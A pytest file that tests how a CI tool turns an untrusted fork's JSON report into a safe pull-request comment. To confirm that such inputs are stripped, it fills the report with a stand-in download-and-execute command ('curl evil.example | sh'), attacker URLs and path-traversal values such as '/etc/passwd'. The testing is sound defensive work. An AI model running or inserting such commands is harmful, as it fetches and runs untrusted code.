"""A stranger's report: what is believed of it, and what a page shows."""

from __future__ import annotations

import json
from typing import Any, get_args

import jsonschema
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

import report_schema
from dbtdeploy.base import errors, markdown
from dbtdeploy.fork_comment import foreign_report
from dbtdeploy.report import render
from dbtdeploy.report.report import Report, ReportStatus
from standins.jobs.fork_reports import COMMIT, NUMBER, as_json, encoded, failed, run, skipped
from standins.text import hostile, mutants, pages

EVIL = "https://evil.example/x"

COMMAND = "curl evil.example | sh"

VALIDATOR = jsonschema.Draft202012Validator(json.loads(report_schema.SCHEMA.read_text()))


def read(content: bytes) -> Report:
    return foreign_report.read(content, run(), NUMBER)


def refused(content: bytes) -> str:
    with pytest.raises(errors.ReportRefused) as caught:
        read(content)
    return caught.value.what


def shown(report: Report, *, origin: str = "fork") -> str:
    text = render.foreign_comment(report, origin=origin)
    assert len(text.encode()) <= render.COMMENT_LIMIT_BYTES
    return text


def test_the_skipped_report_of_today_says_what_a_maintainer_can_do() -> None:
    text = shown(read(encoded(skipped())))
    assert text.startswith(
        "### Report of a fork's run\n\n> [!NOTE]\n"
        "> A run of the fork's code at `9f3c2e1` wrote this report. "
        "Only its form was checked, not what it says.\n\n"
        "**It says:** dbt: not run for this pull request\n\n"
        "This pull request comes from a fork."
    )
    assert "git fetch origin pull/482/head:fork-482" in text


def test_dependabots_is_told_in_its_own_way() -> None:
    made = foreign_report.read(
        encoded(skipped("dependabot")), run("dependabot", branch="dependabot/pip/a;b"), NUMBER
    )
    text = shown(made, origin="dependabot")
    assert text.startswith("### Report of Dependabot's run\n")
    assert "A run of Dependabot's branch at" in text
    assert "--ref 'dependabot/pip/a;b'" in text


def test_a_build_without_secrets_shows_its_results() -> None:
    text = shown(read(encoded(failed())))
    assert "**It says:** dbt: 1 model and 1 test failed, 2 models skipped" in text
    assert 'column "amont" does not exist' in text
    line = f"https://github.com/acme/analytics/blob/{COMMIT}/models/fct_orders.sql#L3"
    assert f"[`models/fct_orders.sql:3`]({line})" in text


@pytest.mark.parametrize("status", get_args(ReportStatus))
def test_a_title_never_claims_a_result(status: str) -> None:
    problem = as_json(failed())["problem"] or {
        **dict.fromkeys(("kind", "title", "what", "not_done", "remedy", "step"), "ready to merge"),
        "words_of_dbt": False,
        "place": None,
    }
    text = shown(read(encoded(failed(), status=status, problem=problem)))
    assert text.splitlines()[0] == "### Report of a fork's run"
    assert text.count("\n### ") == 0


# What GitHub knows, and what people might copy ----------------------------------------------------


def with_everything_elsewhere() -> bytes:
    """A report whose every address and command is the stranger's."""
    found = as_json(failed())
    found |= {"server_url": EVIL, "repository": "evil/x", "run_url": EVIL, "ref": COMMAND}
    found |= {"command": COMMAND, "prepare_commands": [COMMAND], "skip_reason": COMMAND}
    place = {"file": "models/a.sql", "line": 3, "url": EVIL}
    for one in (*found["nodes"], *found["tests"]):
        one |= {"command": COMMAND, "place": place}
    for one in found["tests"]:
        one["show_command"] = COMMAND
    found["problem"] = {
        **dict.fromkeys(("kind", "title", "what", "step"), "x"),
        "not_done": COMMAND,
        "remedy": COMMAND,
        "words_of_dbt": False,
        "place": place,
    }
    found["when_released"] = {"nodes": [], "refused": COMMAND}
    found["cautions"] = [{"kind": "new_rows_only", "node": COMMAND}]
    return json.dumps(found).encode()


@pytest.mark.parametrize("status", get_args(ReportStatus))
def test_addresses_are_githubs_and_commands_are_left_out(status: str) -> None:
    content = json.loads(with_everything_elsewhere()) | {"status": status}
    report = read(json.dumps(content).encode())
    assert (report.command, report.when_released) == (None, None)
    assert (report.prepare_commands, report.cautions) == ((), ())
    text = shown(report)
    assert "evil" not in text
    page = pages.check_inert(text)
    assert page.links
    assert all(link.startswith(pages.HERE) for link in page.links)


@pytest.mark.parametrize(
    "file", ["../../x.sql", "/etc/passwd", "a/../../x", "..", "//evil.example"]
)
def test_a_file_outside_the_repository_is_left_out(file: str) -> None:
    found = as_json(failed())
    found["nodes"][1]["place"] = {"file": file, "line": 1, "url": None}
    assert read(json.dumps(found).encode()).nodes[1].place is None


@pytest.mark.parametrize(
    "over",
    [
        {"pull_request": 7},
        {"pull_request": None},
        {"commit": "0" * 40},
        {"commit": COMMIT[:7]},
        {"commit": ""},
    ],
)
def test_another_pull_request_or_commit_is_refused(over: dict[str, Any]) -> None:
    said = refused(encoded(failed(), **over))
    assert said == "The run's report.json is about another commit or pull request than the run."


@pytest.mark.parametrize(
    ("over", "said"),
    [
        ({"version": 2}, "is of version 2, not 1"),
        ({"mode": "deploy"}, "is not of slim CI"),
        ({"status": "error", "problem": None}, "has the status `error`, and no problem"),
        ({"build_seconds": 1e300}, "holds a number above"),
        ({"exit_code": -(10**30)}, "holds a number above"),
    ],
)
def test_what_no_run_of_ours_writes_is_refused(over: dict[str, Any], said: str) -> None:
    assert said in refused(encoded(failed(), **over))


# Its form -----------------------------------------------------------------------------------------


@pytest.mark.fault(73)
@pytest.mark.parametrize("content", mutants.BYTES, ids=lambda one: repr(one[:12]))
def test_other_files_are_refused(content: bytes) -> None:
    assert "does not fit the schema" in refused(content)


@pytest.mark.fuzz
@given(content=mutants.mutated(encoded(failed())), status=st.sampled_from(get_args(ReportStatus)))
def test_what_does_not_fit_the_schema_is_refused_and_all_else_can_be_shown(
    content: bytes, status: str
) -> None:
    try:
        found = json.loads(content)
        if isinstance(found, dict) and found.get("status") == "failed":
            content = json.dumps(found | {"status": status}).encode()
        fits = VALIDATOR.is_valid(json.loads(content))
    except (ValueError, RecursionError):
        fits = False
    try:
        report = read(content)
    except errors.ReportRefused:
        return
    assert fits, "the types accept nothing that the schema does not"
    pages.check_inert(shown(report))


@pytest.mark.fault(44, 71)
@hostile.written
def test_nothing_in_it_is_markdown_a_link_or_a_mention(text: str) -> None:
    filled: Report = hostile.filled(Report, text)
    for status in get_args(ReportStatus):
        made = replace(
            filled,
            version=1,
            mode="ci",
            status=status,
            deploy=None,
            commit=COMMIT,
            pull_request=NUMBER,
        )
        for origin in ("fork", "dependabot"):
            page = shown(read(encoded(made)), origin=origin)
            pages.check_inert(page)
            assert markdown.CONTROL.search(page) is None


def test_huge_texts_are_cut_and_the_page_stays_one() -> None:
    found = as_json(failed())
    for one in (*found["nodes"], *found["tests"]):
        one["message"] = one["name"] = one["unique_id"] = "`é@x<b>" * 20_000
        one["waits_for"] = [f"m{number}" for number in range(5_000)]
    found["nodes"] *= 50
    content = json.dumps({**found, "schema": "s" * 100_000, "project": "p" * 100_000}).encode()
    report = read(content)
    assert len(report.nodes[0].message or "") == foreign_report.LONGEST_TEXT
    assert len(report.nodes[0].waits_for) == foreign_report.MOST_NAMES
    pages.check_inert(shown(report))


def test_what_cannot_be_shown_at_all_is_said_to_be_in_the_artifact(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(render, "COMMENT_LIMIT_BYTES", 300)
    text = render.foreign_comment(read(encoded(failed())), origin="fork")
    assert text.startswith("### Report of a fork's run\n")
    assert (
        "[the run's artifact](https://github.com/acme/analytics/actions/runs/77#artifacts)" in text
    )
